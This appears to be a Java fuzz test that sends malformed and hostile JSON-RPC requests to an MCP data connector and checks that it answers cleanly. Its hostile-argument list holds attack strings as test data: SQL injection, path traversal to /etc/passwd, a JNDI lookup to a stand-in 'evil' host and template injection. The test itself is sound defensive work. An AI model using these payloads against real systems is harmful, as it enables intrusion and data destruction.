package io.lakegate.connector.mcp;

import static io.lakegate.connector.testsupport.ConnectorHarness.ALICE;
import static org.assertj.core.api.Assertions.assertThat;

import io.lakegate.connector.testsupport.ConnectorHarness;
import io.lakegate.connector.testsupport.RawHttp;
import io.lakegate.emulator.DatabricksEmulator;
import io.lakegate.emulator.EmulatorConfig;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * Sends hundreds of malformed and hostile JSON-RPC bodies and tool arguments to the running connector (seeded random,
 * reproducible). Every answer must be a 4xx with a JSON-RPC error, or a 200 whose JSON-RPC message is an error or a
 * tool result; never a 5xx, never a stack trace, never a hang (each request has a 20 s client timeout).
 */
class HostileInputFuzzTest {

    static final JsonMapper JSON = JsonMapper.builder().build();
    static final List<String> TOOLS = List.of(
            "list_catalogs",
            "list_schemas",
            "list_tables",
            "get_table",
            "search_tables",
            "list_sql_warehouses",
            "list_genie_spaces",
            "list_sql_tools",
            "list_genie_tools",
            "proxy_to_sql",
            "proxy_to_genie",
            "proxy_to_genie_one");
    static final int MAX_REQUEST_BYTES = 65_536;
    static DatabricksEmulator emulator;
    static ConnectorHarness connector;

    @BeforeAll
    static void start() {
        emulator = DatabricksEmulator.start(EmulatorConfig.defaults());
        connector = ConnectorHarness.start(
                emulator,
                Map.of(
                        "lakegate.ratelimit.user.fleet-limit",
                        100_000,
                        "lakegate.ratelimit.client.fleet-limit",
                        100_000,
                        "lakegate.mcp.max-request-bytes",
                        MAX_REQUEST_BYTES));
    }

    @AfterAll
    static void stop() {
        connector.close();
        emulator.close();
    }

    /**
     * One hostile request. With {@code rawHead} (request line and headers, without Content-Length) it goes over a
     * socket as written: the JDK client will not send a foreign or a second {@code Host}, nor omit Content-Type.
     */
    record Case(
            String label,
            byte[] body,
            Map<String, String> headers,
            Predicate<HttpResponse<String>> expected,
            String rawHead) {
        Case(String label, byte[] body, Map<String, String> headers, Predicate<HttpResponse<String>> expected) {
            this(label, body, headers, expected, null);
        }
    }

    private final Random random = new Random(20261122L);
    private final List<String> failures = new ArrayList<>();
    private int requests;
    private int serverErrors;

    @Test
    void hostileInputNeverCausesA5xxAStackTraceOrAHang() {
        String token = connector.token(ALICE);
        String session = connector.initializeSession(token);
        Map<String, String> inSession = Map.of("Mcp-Session-Id", session, "MCP-Protocol-Version", "2025-11-25");

        List<Case> cases = new ArrayList<>();
        cases.addAll(garbage(inSession));
        cases.addAll(notJsonRpc(inSession));
        cases.addAll(deepNesting(inSession));
        cases.addAll(oversized(inSession));
        cases.addAll(unknownMethods(inSession, rpcError(-32601)));
        cases.addAll(badToolCallEnvelopes(inSession));
        cases.addAll(hostileToolArguments(inSession));
        cases.addAll(headerAbuse(session));
        cases.addAll(issueCasesLegacy(token, session));
        cases.addAll(encodingCases(inSession, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}"));
        cases.addAll(batches(inSession));
        cases.addAll(contentTypes(inSession));
        cases.addAll(origins(inSession, LIST));
        cases.addAll(hosts(token, inSession, LIST));
        for (byte[] base :
                List.of(LIST, request("tools/call", "{\"name\":\"list_catalogs\",\"arguments\":{}}"), INITIALIZE)) {
            cases.addAll(mutatedEnvelopes(base, inSession));
        }

        runAll(token, cases, "handshake era");
    }

    /**
     * The same hostile bodies in the stateless era (2026-07-28): every well-formed request gets the per-request
     * {@code _meta} and the mirrored headers, so the hostile part reaches the dispatcher and the tools.
     */
    @Test
    void hostileInputInTheStatelessEraNeverCausesA5xxAStackTraceOrAHang() {
        String token = connector.token(ALICE);
        Map<String, String> modern = Map.of("MCP-Protocol-Version", "2026-07-28");

        List<Case> cases = new ArrayList<>();
        cases.addAll(garbage(modern));
        cases.addAll(notJsonRpc(modern));
        cases.addAll(
                deepNesting(modern).stream().map(HostileInputFuzzTest::modern).toList());
        cases.addAll(
                oversized(modern).stream().map(HostileInputFuzzTest::modern).toList());
        cases.addAll(unknownMethods(modern, httpError(404, -32601)).stream()
                .map(HostileInputFuzzTest::modern)
                .toList());
        cases.addAll(badToolCallEnvelopes(modern));
        cases.addAll(hostileToolArguments(modern).stream()
                .map(HostileInputFuzzTest::modern)
                .toList());
        cases.addAll(issueCasesModern());
        Case discover = modern(new Case("discover", request("server/discover", null), Map.of(), r -> true));
        cases.addAll(encodingCases(discover.headers(), new String(discover.body(), StandardCharsets.UTF_8)));
        cases.addAll(batches(modern));
        cases.addAll(contentTypes(discover.headers()));
        cases.addAll(origins(discover.headers(), discover.body()));
        cases.addAll(hosts(token, discover.headers(), discover.body()));
        for (byte[] base : List.of(
                request("tools/list", null),
                request("tools/call", "{\"name\":\"list_catalogs\",\"arguments\":{}}"),
                request("server/discover", null))) {
            Case c = modern(new Case("base", base, Map.of(), r -> true));
            cases.addAll(mutatedEnvelopes(c.body(), c.headers()));
        }

        runAll(token, cases, "stateless era");
    }

    private void runAll(String token, List<Case> cases, String era) {
        int hangs = 0;
        for (Case c : cases) {
            HttpResponse<String> r;
            try {
                r = postOnce(token, c);
            } catch (AssertionError hang) {
                failures.add(c.label() + " -> " + hang.getMessage());
                if (++hangs == 3) {
                    break; // each hang costs the full client deadline; three name the problem well enough
                }
                continue;
            }
            requests++;
            if (r.statusCode() >= 500) {
                serverErrors++;
            }
            String body = r.body();
            if (r.statusCode() >= 500
                    || leaksStackTrace(body)
                    || !isJsonRpcOrEmpty(r)
                    || !c.expected().test(r)) {
                failures.add(c.label() + " -> " + r.statusCode() + " " + abbreviate(body));
            }
        }
        System.out.printf(
                "fuzz (%s): %d requests, %d server errors, %d failures%n",
                era, requests, serverErrors, failures.size());
        assertThat(failures).isEmpty();
        assertThat(requests).isGreaterThanOrEqualTo(500);
        assertThat(serverErrors).isZero();
        // the connector still works normally afterwards
        assertThat(connector.call(ALICE, "list_catalogs", Map.of()).isError()).isFalse();
    }

    static boolean leaksStackTrace(String body) {
        return body.contains("Exception")
                || body.contains("stackTrace")
                || body.contains("\tat ")
                || body.matches("(?s).*\\bat (io|org|java|reactor|tools)\\..*");
    }

    /** Every answer on /mcp is a JSON-RPC message (or no body at all: 202). */
    static boolean isJsonRpcOrEmpty(HttpResponse<String> r) {
        if (r.body().isEmpty()) {
            return r.statusCode() == 202;
        }
        try {
            JsonNode m = JSON.readTree(message(r.body()));
            return "2.0".equals(m.path("jsonrpc").asString("")) && (m.has("result") || m.has("error"));
        } catch (RuntimeException e) {
            return false;
        }
    }

    /** The stateless form of a case: {@code _meta} and mirrored headers added when the body is a JSON-RPC request. */
    static Case modern(Case c) {
        JsonNode root;
        try {
            root = JSON.readTree(c.body());
        } catch (RuntimeException e) {
            return c;
        }
        if (root == null
                || !root.isObject()
                || !root.path("method").isString()
                || root.has("params") && !root.get("params").isObject()) {
            return c;
        }
        ObjectNode message = (ObjectNode) root;
        ObjectNode params = message.has("params") ? (ObjectNode) message.get("params") : message.putObject("params");
        ObjectNode meta = params.putObject("_meta");
        meta.put("io.modelcontextprotocol/protocolVersion", "2026-07-28");
        meta.putObject("io.modelcontextprotocol/clientCapabilities");
        meta.putObject("io.modelcontextprotocol/clientInfo").put("name", "fuzz").put("version", "1");
        Map<String, String> headers = new LinkedHashMap<>(c.headers());
        headers.put("MCP-Protocol-Version", "2026-07-28");
        String method = message.get("method").asString();
        headers.put("Mcp-Method", headerValue(method));
        String nameField = "resources/read".equals(method) ? "uri" : "name";
        if (params.path(nameField).isString()) {
            headers.put("Mcp-Name", headerValue(params.get(nameField).asString()));
        }
        byte[] body = JSON.writeValueAsBytes(message);
        // the added _meta may push a body just under the cap over it
        Predicate<HttpResponse<String>> expected =
                body.length > MAX_REQUEST_BYTES && c.body().length <= MAX_REQUEST_BYTES
                        ? httpError(413, -32600)
                        : c.expected();
        return new Case(c.label() + " [2026-07-28]", body, headers, expected);
    }

    /** The Base64 sentinel form for values that are not plain visible ASCII (Streamable HTTP 2026-07-28). */
    static String headerValue(String value) {
        boolean plain = !value.isEmpty()
                && value.equals(value.strip())
                && value.chars().allMatch(ch -> ch >= 0x20 && ch <= 0x7e)
                && !value.startsWith("=?base64?");
        return plain
                ? value
                : "=?base64?" + java.util.Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8))
                        + "?=";
    }

    /** The handshake-era findings of issue 13, each with the answer it must now get. */
    private List<Case> issueCasesLegacy(String aliceToken, String session) {
        List<Case> out = new ArrayList<>();
        Map<String, String> h = Map.of("Mcp-Session-Id", session, "MCP-Protocol-Version", "2025-11-25");
        String bobSession = connector.initializeSession(connector.token(ConnectorHarness.BOB));
        out.add(new Case(
                "foreign session id",
                LIST,
                Map.of("Mcp-Session-Id", bobSession, "MCP-Protocol-Version", "2025-11-25"),
                httpError(403, -32003)));
        out.add(new Case(
                "forged session id",
                LIST,
                Map.of("Mcp-Session-Id", "v1.AAAAAAAA.BBBBBBBB", "MCP-Protocol-Version", "2025-11-25"),
                httpError(404, -32001)));
        out.add(new Case(
                "missing session id", LIST, Map.of("MCP-Protocol-Version", "2025-11-25"), httpError(400, -32600)));
        out.add(new Case(
                "method twice",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"method\":\"tools/call\"}".getBytes(),
                h,
                httpError(400, -32700)));
        out.add(new Case(
                "second initialize on a live session",
                INITIALIZE,
                h,
                r -> r.statusCode() == 200
                        && r.headers().firstValue("Mcp-Session-Id").isPresent()
                        && !r.headers().firstValue("Mcp-Session-Id").get().equals(session)));
        out.add(new Case(
                "initialize with params null",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":null}".getBytes(),
                Map.of(),
                httpError(400, -32602)));
        out.add(new Case(
                "initialize without params",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\"}".getBytes(),
                Map.of(),
                httpError(400, -32602)));
        out.add(new Case("resources/read without params", request("resources/read", null), h, rpcError(-32002)));
        out.add(new Case("prompts/get without params", request("prompts/get", null), h, rpcError(-32602)));
        out.add(new Case(
                "completion/complete without params", request("completion/complete", null), h, rpcError(-32601)));
        out.add(new Case(
                "resources/read unknown uri",
                request("resources/read", "{\"uri\":\"file:///etc/passwd\"}"),
                h,
                rpcError(-32002)
                        .and(r -> "file:///etc/passwd"
                                .equals(JSON.readTree(message(r.body()))
                                        .path("error")
                                        .path("data")
                                        .path("uri")
                                        .asString("")))));
        out.add(new Case(
                "logging/setLevel",
                request("logging/setLevel", "{\"level\":\"debug\"}"),
                h,
                r -> r.statusCode() == 200 && JSON.readTree(message(r.body())).has("result")));
        out.add(new Case(
                "logging/setLevel bad level",
                request("logging/setLevel", "{\"level\":\"loud\"}"),
                h,
                rpcError(-32602)));
        out.add(new Case("logging/setLevel without params", request("logging/setLevel", null), h, rpcError(-32602)));
        out.add(new Case("ping", request("ping", null), h, r -> r.statusCode() == 200));
        out.add(new Case("resources/list", request("resources/list", null), h, r -> r.statusCode() == 200));
        out.add(new Case("prompts/list", request("prompts/list", "{}"), h, r -> r.statusCode() == 200));
        out.add(new Case(
                "client response",
                "{\"jsonrpc\":\"2.0\",\"id\":7,\"result\":{}}".getBytes(),
                h,
                r -> r.statusCode() == 202));
        out.add(new Case(
                "notification",
                "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/cancelled\",\"params\":{}}".getBytes(),
                h,
                r -> r.statusCode() == 202));
        return out;
    }

    /** The stateless-era findings: missing/odd {@code _meta}, header mismatches, removed methods. */
    private List<Case> issueCasesModern() {
        List<Case> out = new ArrayList<>();
        Map<String, String> h = Map.of("MCP-Protocol-Version", "2026-07-28", "Mcp-Method", "tools/list");
        out.add(new Case("no _meta", LIST, h, httpError(400, -32602)));
        out.add(new Case(
                "method twice",
                ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"method\":\"tools/call\","
                                + "\"params\":{\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":\"2026-07-28\","
                                + "\"io.modelcontextprotocol/clientCapabilities\":{}}}}")
                        .getBytes(),
                h,
                httpError(400, -32700)));
        out.add(new Case("_meta not an object", request("tools/list", "{\"_meta\":42}"), h, httpError(400, -32602)));
        out.add(new Case(
                "version not a string",
                request(
                        "tools/list",
                        "{\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":2026,\"io.modelcontextprotocol/clientCapabilities\":{}}}"),
                h,
                httpError(400, -32602)));
        byte[] version2030 = request(
                "tools/list",
                "{\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":\"2030-01-01\",\"io.modelcontextprotocol/clientCapabilities\":{}}}");
        out.add(new Case(
                "unsupported _meta version",
                version2030,
                Map.of("MCP-Protocol-Version", "2030-01-01", "Mcp-Method", "tools/list"),
                httpError(400, -32022)));
        out.add(new Case("_meta version differs from the header", version2030, h, httpError(400, -32020)));
        out.add(new Case(
                "unsupported header version",
                LIST,
                Map.of("MCP-Protocol-Version", "2030-01-01"),
                httpError(400, -32022)));
        Case discover = modern(new Case(
                "server/discover",
                request("server/discover", null),
                Map.of(),
                r -> r.statusCode() == 200
                        && "complete"
                                .equals(JSON.readTree(r.body())
                                        .path("result")
                                        .path("resultType")
                                        .asString(""))));
        out.add(discover);
        Map<String, String> wrongMethod = new LinkedHashMap<>(discover.headers());
        wrongMethod.put("Mcp-Method", "tools/call");
        out.add(new Case("Mcp-Method mismatch", discover.body(), wrongMethod, httpError(400, -32020)));
        Map<String, String> noMethod = new LinkedHashMap<>(discover.headers());
        noMethod.remove("Mcp-Method");
        out.add(new Case("Mcp-Method missing", discover.body(), noMethod, httpError(400, -32020)));
        Case call = modern(new Case(
                "tools/call",
                request("tools/call", "{\"name\":\"list_catalogs\",\"arguments\":{}}"),
                Map.of(),
                toolAnswer()));
        out.add(call);
        for (String name : List.of("list_schemas", "=?base64?!!!?=", "", "proxy_to_sql")) {
            Map<String, String> wrongName = new LinkedHashMap<>(call.headers());
            wrongName.put("Mcp-Name", name);
            out.add(new Case("Mcp-Name " + abbreviate(name), call.body(), wrongName, httpError(400, -32020)));
        }
        // SEP-2243 judges the mirrored headers before anything else: also when the named tool does not exist
        Case unknownTool = modern(new Case(
                "tools/call unknown",
                request("tools/call", "{\"name\":\"greet\",\"arguments\":{}}"),
                Map.of(),
                rpcError(-32602)));
        out.add(unknownTool);
        out.add(new Case(
                "unknown tool, Mcp-Method mismatch",
                unknownTool.body(),
                withHeader(unknownTool.headers(), "Mcp-Method", "tasks/get"),
                httpError(400, -32020)));
        out.add(new Case(
                "unknown tool, Mcp-Name mismatch",
                unknownTool.body(),
                withHeader(unknownTool.headers(), "Mcp-Name", "list_catalogs"),
                httpError(400, -32020)));
        // SEP-2164: resource not found names the requested URI
        out.add(modern(new Case(
                "resources/read names the uri",
                request("resources/read", "{\"uri\":\"test://nope\"}"),
                Map.of(),
                rpcError(-32602)
                        .and(r -> "test://nope"
                                .equals(JSON.readTree(message(r.body()))
                                        .path("error")
                                        .path("data")
                                        .path("uri")
                                        .asString(""))))));
        Map<String, String> noName = new LinkedHashMap<>(call.headers());
        noName.remove("Mcp-Name");
        out.add(new Case("Mcp-Name missing", call.body(), noName, httpError(400, -32020)));
        Map<String, String> unknownHeaderVersion = new LinkedHashMap<>(call.headers());
        unknownHeaderVersion.put("MCP-Protocol-Version", "1999-01-01");
        out.add(new Case(
                "header version unknown, _meta 2026-07-28", call.body(), unknownHeaderVersion, httpError(400, -32020)));
        out.add(modern(new Case(
                "initialize the modern way (removed)", request("initialize", null), Map.of(), httpError(404, -32601))));
        out.add(new Case(
                "error keeps the request id",
                ("{\"jsonrpc\":\"2.0\",\"id\":301,\"method\":\"tools/list\"}").getBytes(),
                Map.of("MCP-Protocol-Version", "1999-01-01"),
                httpError(400, -32022)
                        .and(r -> JSON.readTree(r.body()).path("id").asInt() == 301)));
        Map<String, String> versionMismatch = new LinkedHashMap<>(call.headers());
        versionMismatch.put("MCP-Protocol-Version", "2025-11-25");
        out.add(new Case("MCP-Protocol-Version header vs _meta", call.body(), versionMismatch, httpError(400, -32020)));
        for (String removed : List.of(
                "ping", "logging/setLevel", "resources/subscribe", "completion/complete", "subscriptions/listen")) {
            out.add(modern(new Case(
                    "removed " + removed,
                    request(removed, "{\"level\":\"debug\"}"),
                    Map.of(),
                    httpError(404, -32601))));
        }
        out.add(modern(new Case(
                "resources/read without uri", request("resources/read", "{}"), Map.of(), httpError(400, -32020))));
        out.add(modern(
                new Case("prompts/get without name", request("prompts/get", "{}"), Map.of(), httpError(400, -32020))));
        out.add(modern(new Case(
                "prompts/get unknown", request("prompts/get", "{\"name\":\"x\"}"), Map.of(), rpcError(-32602))));
        out.add(new Case(
                "session id is ignored",
                discover.body(),
                withHeader(discover.headers(), "Mcp-Session-Id", "no-such-session"),
                r -> r.statusCode() == 200));
        out.add(new Case(
                "initialize with params null",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":null}".getBytes(),
                Map.of("MCP-Protocol-Version", "2026-07-28"),
                httpError(400, -32602)));
        return out;
    }

    /** A BOM before valid JSON is tolerated (RFC 8259 allows ignoring it); UTF-16/UTF-32 bodies are refused. */
    private List<Case> encodingCases(Map<String, String> h, String list) {
        List<Case> out = new ArrayList<>();
        byte[] utf8 = list.getBytes(StandardCharsets.UTF_8);
        byte[] bom = new byte[utf8.length + 3];
        bom[0] = (byte) 0xEF;
        bom[1] = (byte) 0xBB;
        bom[2] = (byte) 0xBF;
        System.arraycopy(utf8, 0, bom, 3, utf8.length);
        out.add(new Case("utf-8 BOM", bom, h, r -> r.statusCode() == 200 || r.statusCode() == 400));
        out.add(new Case("utf-16le", list.getBytes(StandardCharsets.UTF_16LE), h, httpError(400, -32700)));
        out.add(new Case("utf-16be", list.getBytes(StandardCharsets.UTF_16BE), h, httpError(400, -32700)));
        out.add(new Case("utf-16 with BOM", list.getBytes(StandardCharsets.UTF_16), h, httpError(400, -32700)));
        out.add(new Case(
                "utf-32", list.getBytes(java.nio.charset.Charset.forName("UTF-32")), h, httpError(400, -32700)));
        out.add(new Case(
                "charset utf-16 label",
                utf8,
                withHeader(h, "Content-Type", "application/json; charset=utf-16"),
                httpError(415, -32600)));
        return out;
    }

    static final byte[] LIST = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}".getBytes();
    static final byte[] INITIALIZE = ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":"
                    + "{\"protocolVersion\":\"2025-11-25\",\"capabilities\":{},\"clientInfo\":{\"name\":\"x\",\"version\":\"1\"}}}")
            .getBytes();

    static byte[] request(String method, String params) {
        return ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"" + method + "\""
                        + (params == null ? "" : ",\"params\":" + params) + "}")
                .getBytes(StandardCharsets.UTF_8);
    }

    static Map<String, String> withHeader(Map<String, String> headers, String name, String value) {
        Map<String, String> out = new LinkedHashMap<>(headers);
        out.put(name, value);
        return out;
    }

    /**
     * One case; if the connection breaks before any answer, the same case once more on a fresh client. A pooled
     * connection the server has just closed after an earlier refusal is the client's race, not this case's verdict; a
     * case that breaks the connection twice is recorded as a failure.
     */
    private HttpResponse<String> postOnce(String token, Case c) {
        if (c.rawHead() != null) {
            return RawHttp.send(connector.port, c.rawHead(), c.body());
        }
        try {
            return connector.post(token, c.headers(), c.body());
        } catch (java.io.UncheckedIOException first) {
            try {
                return connector.postOnNewConnection(token, c.headers(), c.body());
            } catch (java.io.UncheckedIOException second) {
                throw new AssertionError(c.label() + " broke the connection twice: " + second.getMessage(), second);
            }
        }
    }

    // ---- expectations ----

    /** An HTTP error with a JSON-RPC error object of the given code. */
    static Predicate<HttpResponse<String>> httpError(int status, int code) {
        return r -> r.statusCode() == status && jsonRpcErrorCode(r.body()) == code;
    }

    /** 200 carrying a JSON-RPC error with the given code (SSE or JSON). */
    static Predicate<HttpResponse<String>> rpcError(int code) {
        return r -> r.statusCode() == 200 && jsonRpcErrorCode(message(r.body())) == code;
    }

    /** 200 carrying a tool result (an error result or a normal one) or a -32602 for an unknown tool. */
    static Predicate<HttpResponse<String>> toolAnswer() {
        return r -> {
            if (r.statusCode() != 200) {
                return false;
            }
            JsonNode m = JSON.readTree(message(r.body()));
            return m.has("result") && m.path("result").has("content")
                    || m.path("error").path("code").asInt() == -32602;
        };
    }

    static Predicate<HttpResponse<String>> clientError() {
        return r -> r.statusCode() >= 400 && r.statusCode() < 500;
    }

    static int jsonRpcErrorCode(String json) {
        try {
            return JSON.readTree(json).path("error").path("code").asInt(0);
        } catch (RuntimeException e) {
            return 0;
        }
    }

    /** The JSON-RPC message of a reply: the body, or the data line of a single-event SSE stream. */
    static String message(String body) {
        if (body.startsWith("{")) {
            return body;
        }
        return body.lines()
                .filter(l -> l.startsWith("data:"))
                .map(l -> l.substring(5).trim())
                .filter(l -> l.startsWith("{"))
                .reduce((a, b) -> b)
                .orElse("{}");
    }

    // ---- generators ----

    private List<Case> garbage(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        List<String> fixed = List.of(
                "",
                " ",
                "{",
                "}",
                "[",
                "{\"jsonrpc\":\"2.0\",",
                "null\u0000",
                "{'a':1}",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"",
                "<xml/>",
                "GET / HTTP/1.1",
                "\"unterminated",
                "{\"a\":tru}",
                "{\"a\":1,}",
                "NaN",
                "{\"id\":01}",
                "\uFEFF{}",
                "{\"a\":\"\\uZZZZ\"}");
        for (String s : fixed) {
            out.add(new Case(
                    "garbage " + abbreviate(s),
                    s.getBytes(StandardCharsets.UTF_8),
                    h,
                    httpError(400, -32700).or(httpError(400, -32600))));
        }
        for (int i = 0; i < 60; i++) {
            byte[] bytes = new byte[1 + random.nextInt(400)];
            random.nextBytes(bytes);
            bytes[0] = (byte) '{';
            out.add(new Case(
                    "random bytes #" + i, bytes, h, httpError(400, -32700).or(httpError(400, -32600))));
        }
        for (int i = 0; i < 20; i++) { // valid JSON text around invalid UTF-8 sequences
            byte[] prefix = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"params\":{\"x\":\"".getBytes();
            byte[] bad = {
                (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) (0x80 + i), (byte) 0xED, (byte) 0xA0, (byte) 0x80
            };
            byte[] suffix = "\"}}".getBytes();
            byte[] all = new byte[prefix.length + bad.length + suffix.length];
            System.arraycopy(prefix, 0, all, 0, prefix.length);
            System.arraycopy(bad, 0, all, prefix.length, bad.length);
            System.arraycopy(suffix, 0, all, prefix.length + bad.length, suffix.length);
            out.add(new Case("invalid utf-8 #" + i, all, h, httpError(400, -32700)));
        }
        return out;
    }

    private List<Case> notJsonRpc(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        List<String> bodies = List.of(
                "[]",
                "[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}]",
                "42",
                "\"text\"",
                "true",
                "null",
                "{}",
                "{\"jsonrpc\":\"1.0\",\"id\":1,\"method\":\"ping\"}",
                "{\"jsonrpc\":2.0,\"id\":1,\"method\":\"ping\"}",
                "{\"id\":1,\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":1}",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":42}",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":null}",
                "{\"jsonrpc\":\"2.0\",\"id\":{\"a\":1},\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":[1],\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":1.5,\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":true,\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":null,\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"method\":[\"tools/call\"]}",
                "{\"jsonrpc\":\"2.0\",\"id\":\"" + "i".repeat(1000) + "\",\"method\":\"ping\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"" + "m".repeat(5000) + "\"}",
                "{\"jsonrpc\":\"2.0\",\"id\":99999999999999999999999999,\"method\":\"ping\"}");
        for (String b : bodies) {
            out.add(new Case(
                    "not json-rpc " + abbreviate(b), b.getBytes(StandardCharsets.UTF_8), h, httpError(400, -32600)));
        }
        for (int i = 0; i < 40; i++) {
            String params = switch (i % 4) {
                case 0 -> "[1,2,3]";
                case 1 -> "\"params\"";
                case 2 -> String.valueOf(random.nextInt());
                default -> "true";
            };
            String b = "{\"jsonrpc\":\"2.0\",\"id\":" + i + ",\"method\":\"tools/list\",\"params\":" + params + "}";
            out.add(new Case("params not object " + params, b.getBytes(), h, httpError(400, -32602)));
        }
        return out;
    }

    private List<Case> deepNesting(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        for (int depth : new int[] {65, 100, 500, 1000, 5000, 20000}) {
            String arrays = "[".repeat(depth) + "]".repeat(depth);
            byte[] nestedArrays = ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":"
                            + "{\"name\":\"list_catalogs\",\"arguments\":{\"x\":" + arrays + "}}}")
                    .getBytes();
            out.add(new Case("nested arrays " + depth, nestedArrays, h, tooDeepOrTooLarge(nestedArrays)));
            String objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            byte[] nestedObjects = ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":"
                            + "{\"name\":\"list_catalogs\",\"arguments\":" + objects + "}}")
                    .getBytes();
            out.add(new Case("nested objects " + depth, nestedObjects, h, tooDeepOrTooLarge(nestedObjects)));
        }
        return out;
    }

    /** The size cap is checked before the body is parsed, so a deep body over the cap is a 413, not a parse error. */
    private static Predicate<HttpResponse<String>> tooDeepOrTooLarge(byte[] body) {
        return body.length > MAX_REQUEST_BYTES ? httpError(413, -32600) : httpError(400, -32700);
    }

    private List<Case> oversized(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        for (int kb : new int[] {65, 100, 200, 1024}) {
            String b = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"search_tables\","
                    + "\"arguments\":{\"query\":\"" + "A".repeat(kb * 1024) + "\"}}}";
            out.add(new Case("oversized " + kb + " KiB", b.getBytes(), h, httpError(413, -32600)));
        }
        return out;
    }

    private List<Case> unknownMethods(Map<String, String> h, Predicate<HttpResponse<String>> expected) {
        List<Case> out = new ArrayList<>();
        List<String> methods = new ArrayList<>(List.of(
                "tools/delete",
                "admin/shutdown",
                "resources/write",
                "../../etc/passwd",
                "tools/call/../list",
                "rpc.discover",
                "__proto__",
                "constructor",
                "sampling/createMessage",
                "elicitation/create",
                "roots/list",
                "TOOLS/LIST",
                "tools/list ",
                "\u202etools/list",
                "tools\u0000list"));
        for (int i = 0; i < 35; i++) {
            methods.add("x/" + Integer.toHexString(random.nextInt()));
        }
        for (int i = 0; i < methods.size(); i++) {
            String b = "{\"jsonrpc\":\"2.0\",\"id\":" + (1000 + i) + ",\"method\":"
                    + JSON.writeValueAsString(methods.get(i)) + ",\"params\":{}}";
            out.add(new Case(
                    "unknown method " + abbreviate(methods.get(i)), b.getBytes(StandardCharsets.UTF_8), h, expected));
        }
        return out;
    }

    private List<Case> badToolCallEnvelopes(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        List<String> params = List.of(
                "{}",
                "{\"name\":null}",
                "{\"name\":42}",
                "{\"name\":\"\"}",
                "{\"name\":[\"list_catalogs\"]}",
                "{\"name\":{\"x\":1}}",
                "{\"name\":\"list_catalogs\",\"arguments\":[]}",
                "{\"name\":\"list_catalogs\",\"arguments\":\"{}\"}",
                "{\"name\":\"list_catalogs\",\"arguments\":7}",
                "{\"name\":\"" + "t".repeat(300) + "\"}");
        for (int repeat = 0; repeat < 5; repeat++) {
            for (String p : params) {
                String b = "{\"jsonrpc\":\"2.0\",\"id\":" + repeat + ",\"method\":\"tools/call\",\"params\":" + p + "}";
                out.add(new Case("bad tools/call " + abbreviate(p), b.getBytes(), h, httpError(400, -32602)));
            }
        }
        return out;
    }

    private List<Case> hostileToolArguments(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        List<Object> values = new ArrayList<>(List.of(
                42,
                -1,
                0,
                1.5e308,
                true,
                false,
                List.of(),
                List.of(1, "a"),
                Map.of(),
                Map.of("nested", Map.of("deeper", List.of(1, 2))),
                "",
                " ",
                "A".repeat(60_000),
                "'; DROP TABLE sales.orders; --",
                "sales.orders.orders\u0000",
                "../../../../etc/passwd",
                "${jndi:ldap://evil/x}",
                "{{7*7}}",
                "\u202e\u200b\uFEFF",
                "😀".repeat(500),
                "SELECT * FROM system.information_schema.tables",
                "-- comment only",
                "sales.*",
                "%",
                "_",
                "\\",
                "\"quoted\"",
                "\n\r\t"));
        values.add(null);
        List<String> argNames = List.of(
                "catalog_name",
                "schema_name",
                "full_name",
                "query",
                "page_token",
                "max_results",
                "workspace",
                "space_id",
                "question",
                "tool_name",
                "tool_args",
                "warehouse_id",
                "unexpected_property");
        for (String tool : TOOLS) {
            for (int i = 0; i < 20; i++) {
                Map<String, Object> args = new LinkedHashMap<>();
                int n = 1 + random.nextInt(3);
                for (int k = 0; k < n; k++) {
                    args.put(argNames.get(random.nextInt(argNames.size())), values.get(random.nextInt(values.size())));
                }
